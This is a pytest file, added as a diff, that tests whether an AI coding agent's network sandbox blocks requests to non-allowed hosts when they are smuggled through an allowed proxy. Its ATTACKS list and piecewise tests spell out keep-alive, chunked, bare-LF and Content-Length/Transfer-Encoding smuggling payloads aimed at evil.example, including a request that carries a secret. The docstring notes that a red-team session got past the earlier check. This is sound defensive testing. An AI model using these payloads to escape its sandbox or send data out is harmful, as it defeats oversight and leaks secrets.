@@ -1,0 +1,168 @@
+"""The wall and an allowed proxy (a self-hosted runner's ``HTTPS_PROXY``, listed in
+allowed-domains): every request on a plain HTTP connection names an allowed host, not only
+the first. A red-team session got past the first-request check four ways (a second request on
+a kept-alive connection, a request after an empty line, a method the check did not know); each
+case below made the proxy hear ``evil.example`` on the code before the fix.
+
+The proxy only records what it is asked and answers every read with a small 200.
+"""
+
+from __future__ import annotations
+
+import os
+import socket
+import sys
+import time
+from typing import Any
+
+import pytest
+
+from cursor_agent_action.agent.box.net.policy import build_policy
+from tests.support.netbox import PREFIX, Emit, connect_by_name, fixed_resolver, run_boxed, servers
+
+pytestmark = pytest.mark.skipif(os.geteuid() != 0 or not sys.platform.startswith("linux"),
+                                reason="network namespaces: root on Linux (CI here is root)")
+PROXY = f"{PREFIX}proxy.example"
+HOST = PROXY.encode()
+
+
+def recording_proxy(conn: socket.socket, server: Any) -> None:
+    conn.settimeout(5)
+    while True:
+        try:
+            data = conn.recv(65536)
+        except OSError:
+            return
+        if not data:
+            return
+        server.record(data)
+        status = b"407 Proxy Authentication Required" if b"CONNECT" in data else b"200 OK"
+        conn.sendall(b"HTTP/1.1 " + status + b"\r\nContent-Length: 2\r\n\r\nok")
+
+
+def send_flights(port: int, flights: list[bytes]) -> Any:
+    def client(emit: Emit) -> Any:
+        answers = []
+        with connect_by_name(PROXY, port) as sock:
+            sock.settimeout(3)
+            for flight in flights:
+                try:
+                    sock.sendall(flight)
+                    time.sleep(0.2)
+                    answers.append(sock.recv(200).decode("latin-1"))
+                except OSError as exc:
+                    answers.append(f"error {exc}")
+        return answers
+    return client
+
+
+GET_PROXY = b"GET / HTTP/1.1\r\nHost: " + HOST + b"\r\n\r\n"
+CONNECT_EVIL = b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n"
+ATTACKS = {
+    "keep-alive, then CONNECT": [GET_PROXY, CONNECT_EVIL],
+    "keep-alive, then an absolute URL": [
+        GET_PROXY, b"GET http://evil.example/?k=SECRET HTTP/1.1\r\nHost: evil.example\r\n\r\n"],
+    "two requests in one write": [GET_PROXY + CONNECT_EVIL],
+    "after an empty line": [b"\r\n" + CONNECT_EVIL],
+    "a method the check did not list": [
+        b"PROPFIND http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n"],
+    "inside a chunked body's end": [
+        b"POST / HTTP/1.1\r\nHost: " + HOST + b"\r\nTransfer-Encoding: chunked\r\n\r\n"
+        b"3\r\nabc\r\n0\r\n\r\n" + CONNECT_EVIL],
+    "after a refused CONNECT, another": [
+        b"CONNECT " + HOST + b":443 HTTP/1.1\r\nHost: " + HOST + b":443\r\n\r\n", CONNECT_EVIL],
+    "a bare LF that a lenient proxy reads as a line end": [
+        b"GET / HTTP/1.1\r\nHost: " + HOST + b"\r\nX: a\nCONNECT evil.example:443 HTTP/1.1"
+        b"\r\n\r\n"],
+    "both lengths (smuggling)": [
+        b"POST / HTTP/1.1\r\nHost: " + HOST + b"\r\nContent-Length: 4\r\nTransfer-Encoding: "
+        b"chunked\r\n\r\n0\r\n\r\n" + CONNECT_EVIL],
+}
+
+
+@pytest.mark.parametrize("case", sorted(ATTACKS))
+def test_an_allowed_proxy_hears_no_request_for_another_name(case: str) -> None:
+    with servers(recording_proxy) as (proxy,):
+        policy = build_policy([f"{PROXY}:{proxy.port}", f"{PROXY}:443"])
+        run = run_boxed(policy, send_flights(proxy.port, ATTACKS[case]),
+                        resolve=fixed_resolver({PROXY: ["127.0.0.1"]}))
+        time.sleep(0.2)
+        heard = bytes(proxy.received)
+    assert b"evil.example" not in heard, heard
+    if case == "after a refused CONNECT, another":
+        # The proxy's 407 reached the agent, and the relay ended the connection there.
+        assert run.result[0].startswith("HTTP/1.1 407")
+        assert run.result[1] in ("", "error [Errno 32] Broken pipe") or "reset" in run.result[1]
+        return
+    refused = run.refused("sni-mismatch")
+    assert refused, run.report
+    assert refused[0]["destination"] == PROXY
+
+
+@pytest.mark.parametrize("flights", [
+    [b"PROPFIND", b" http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n"],
+    [b"\r", b"\n", b"CONNECT evil.example:443 HTTP/1.1", b"\r\n\r\n"],
+    [b"GET / HTTP/1.1\r\nHost: " + HOST + b"\r\n", b"X: y\r\n\r\n", CONNECT_EVIL[:9],
+     CONNECT_EVIL[9:]],
+])
+def test_a_request_sent_a_piece_at_a_time_is_checked_before_its_line_ends(
+    flights: list[bytes],
+) -> None:
+    """A first line still open goes on as it comes (a far end acts on no request before its
+    line end: an echo or a line protocol must not wait); its line end only once checked."""
+    with servers(recording_proxy) as (proxy,):
+        policy = build_policy([f"{PROXY}:{proxy.port}"])
+        run = run_boxed(policy, send_flights(proxy.port, flights),
+                        resolve=fixed_resolver({PROXY: ["127.0.0.1"]}))
+        time.sleep(0.2)
+        heard = bytes(proxy.received)
+    at = heard.find(b"evil.example")
+    assert at < 0 or b"\n" not in heard[at:], heard  # never a whole request for it
+    assert run.refused("sni-mismatch"), run.report
+
+
+def test_requests_for_the_allowed_name_on_a_kept_alive_connection_all_pass() -> None:
+    body = b"POST /up HTTP/1.1\r\nHost: " + HOST + b"\r\nContent-Length: 5\r\n\r\nhello"
+    chunked = (b"POST /c HTTP/1.1\r\nHost: " + HOST + b"\r\nTransfer-Encoding: chunked\r\n\r\n"
+               b"5;x=y\r\nhello\r\n0\r\nTrailer: t\r\n\r\n")
+    with servers(recording_proxy) as (proxy,):
+        policy = build_policy([f"{PROXY}:{proxy.port}"])
+        run = run_boxed(policy, send_flights(proxy.port, [GET_PROXY, body, chunked, GET_PROXY]),
+                        resolve=fixed_resolver({PROXY: ["127.0.0.1"]}))
+        time.sleep(0.2)
+        heard = bytes(proxy.received)
+    assert [a.split("\r\n")[0] for a in run.result] == ["HTTP/1.1 200 OK"] * 4
+    assert heard == GET_PROXY + body + chunked + GET_PROXY
+    assert run.report.get("refused", []) == []
+
+
+def test_a_connect_the_proxy_accepts_opens_a_tunnel_both_ways() -> None:
+    def tunnel_proxy(conn: socket.socket, server: Any) -> None:
+        head = b""
+        while b"\r\n\r\n" not in head:
+            head += conn.recv(65536)
+        server.record(head)
+        conn.sendall(b"HTTP/1.1 200 Connection established\r\n\r\nserver-first")
+        while data := conn.recv(65536):  # then an echo: the tunnel's far end
+            conn.sendall(data)
+
+    with servers(tunnel_proxy) as (proxy,):
+        policy = build_policy([f"{PROXY}:{proxy.port}", "api2.cursor.sh"])
+
+        def client(emit: Emit) -> Any:
+            with connect_by_name(PROXY, proxy.port) as sock:
+                sock.settimeout(3)
+                sock.sendall(b"CONNECT api2.cursor.sh:443 HTTP/1.1\r\nHost: api2.cursor.sh:443"
+                             b"\r\n\r\n")
+                answer = b""
+                while b"server-first" not in answer:
+                    answer += sock.recv(200)
+                # Inside the tunnel anything goes (it would be TLS to the allowed name).
+                sock.sendall(b"CONNECT evil.example:443 HTTP/1.1\r\n\r\n")
+                return [answer.decode(), sock.recv(200).decode()]
+
+        run = run_boxed(policy, client, resolve=fixed_resolver({PROXY: ["127.0.0.1"]}))
+    answer, echoed = run.result
+    assert answer.startswith("HTTP/1.1 200 Connection established\r\n\r\nserver-first")
+    assert echoed == "CONNECT evil.example:443 HTTP/1.1\r\n\r\n"
+    assert run.report.get("refused", []) == []
